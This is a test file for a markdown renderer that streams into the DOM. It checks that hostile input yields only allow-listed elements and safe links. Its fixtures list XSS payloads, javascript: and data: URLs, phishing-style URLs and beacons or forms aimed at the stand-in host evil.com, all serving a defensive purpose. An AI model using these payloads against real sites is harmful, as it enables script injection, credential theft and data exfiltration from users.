// @vitest-environment happy-dom
import fc from 'fast-check'
import {describe, expect, it} from 'vitest'
import {createMarkdown} from '../src/core/markdown/blocks'
import {createDomSink} from '../src/log/markdown-dom'

const TAGS = new Set(
  'P BR HR H3 H4 STRONG EM S CODE PRE UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD A SPAN DIV'.split(
    ' ',
  ),
)
const ATTRIBUTES: Record<string, RegExp> = {
  href: /^(https?:\/\/[^\s/@]+(\/\S*)?|mailto:[^\s?&]+@[^\s?&]+|tel:[+\d]+)$/,
  rel: /^noopener noreferrer nofollow ugc$/,
  target: /^_blank$/,
  start: /^\d+$/,
  class: /^(right|center|table)$/,
  tabindex: /^0$/,
}

function drawDom(chunks: Iterable<string>): HTMLElement {
  const root = document.createElement('div')
  const writer = createMarkdown(createDomSink(root, () => undefined))
  for (const chunk of chunks) writer.push(chunk)
  writer.end()
  return root
}

/** Everything in `root` that the renderer must never make. */
function violations(root: HTMLElement): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const found = TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`]
    for (const {name, value} of element.attributes) {
      if (!ATTRIBUTES[name]?.test(value)) found.push(`${element.tagName} ${name}="${value}"`)
    }
    return found
  })
}

const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript://x.com/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://x.com/1',
  'about:blank',
  'intent://x#Intent;end',
  '//evil.com/x',
  '/\\evil.com',
  '\\\\evil.com\\x',
  '/relative',
  'relative',
  '#fragment',
  '?query',
  'https:evil.com',
  'https:/evil.com',
  'https:///evil.com',
  'https://user@evil.com',
  'https://paypal.com:pass@evil.com',
  'https://paypal.com\\@evil.com',
  'https://evil.com\\.paypal.com',
  'https://',
  'https://[::1',
  'mailto:a@b.de?bcc=evil@evil.com',
  'mailto:a@b.de&subject=x',
  'mailto:javascript:alert(1)',
  'tel:javascript:alert(1)',
  'ftp://x.com',
  'ws://x.com',
  'chrome://settings',
]

describe('a hostile URL', () => {
  it.each(URLS)('%j becomes no link, in whatever way it is written', (url) => {
    for (const text of [
      `[a](${url})`,
      `[a](<${url}>)`,
      `<${url}>`,
      `![a](${url})`,
      `[a](${url} "t")`,
    ]) {
      for (const chunks of [[text], text.split('')]) {
        const root = drawDom(chunks)
        expect(violations(root)).toEqual([])
        // What is linked all the same (a bare address within the string) leads where its words say.
        for (const link of root.querySelectorAll('a')) {
          expect(link.textContent).toMatch(/^(https?:\/\/|[\w.]+@)/)
        }
      }
    }
  })
})

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form action=https://evil.com><input name=q><button>x',
  '<style>@import "https://evil.com"</style>',
  '<base href=https://evil.com>',
  '<template><script>alert(1)</script></template>',
  '[a](https://x.com" onclick="alert(1))',
  "[a](https://x.com' onmouseover='alert(1))",
  '[a](https://x.com "title" onclick=alert(1))',
  '[<img src=x onerror=alert(1)>](https://x.com)',
  '![x" onerror="alert(1)](https://x.com/a.png)',
  '![beacon](https://evil.com/?order=42)',
  '[![beacon](https://evil.com/?order=42)](https://evil.com)',
  '[a]: javascript:alert(1)\n[a]',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '```" onload="x\ncode\n```',
  '# <svg onload=alert(1)>',
  '1. <object data=x>\n- <embed src=x>',
]

describe('an attack', () => {
  it.each(ATTACKS)('%j is only text', (text) => {
    for (const chunks of [[text], text.split('')]) expect(violations(drawDom(chunks))).toEqual([])
  })

  it('by any mixture of these gives nothing else either', () => {
    const pieces = fc.constantFrom(
      ...ATTACKS,
      ...URLS,
      '[',
      '](',
      ')',
      '![',
      '<',
      '>',
      '"',
      '\n',
      '*',
      '`',
      '|',
      ' ',
    )
    const property = fc.property(fc.array(pieces, {maxLength: 12}), (parts) => {
      expect(violations(drawDom(parts))).toEqual([])
    })
    fc.assert(property, {numRuns: 500})
  })

  it('fetches nothing: there is no element that could', () => {
    const root = drawDom(ATTACKS.map((text) => `${text}\n\n`))
    expect(
      root.querySelector('img,video,audio,iframe,object,embed,link,script,style,svg,source'),
    ).toBeNull()
  })
})

describe('the DOM of an answer', () => {
  it('only grows while it streams: what stands is never touched', () => {
    const text =
      '# Hi\n\nSome **bold** [link](https://x.com) text\n\n- a\n  - b\n\n| A |\n|---|\n| 1 |\n\n```\ncode\n```\nend'
    const root = document.createElement('div')
    const writer = createMarkdown(createDomSink(root, () => undefined))
    let before: {node: Node; text: string}[] = []
    for (const char of text) {
      writer.push(char)
      for (const {node, text: was} of before) {
        expect(root.contains(node)).toBe(true)
        expect(node.textContent?.startsWith(was)).toBe(true)
      }
      before = [...root.querySelectorAll('*')].map((node) => ({node, text: node.textContent ?? ''}))
    }
  })

  it('has a limit of elements; words beyond it are still there', () => {
    const root = drawDom(['**a** '.repeat(9000)])
    expect(root.querySelectorAll('*').length).toBeLessThanOrEqual(4001)
    expect(root.textContent?.match(/a/g)).toHaveLength(9000)
  })

  it('opens links elsewhere, without a way back', () => {
    const link = drawDom(['[a](https://x.com)']).querySelector('a')
    expect(link?.target).toBe('_blank')
    expect(link?.rel).toBe('noopener noreferrer nofollow ugc')
  })
})
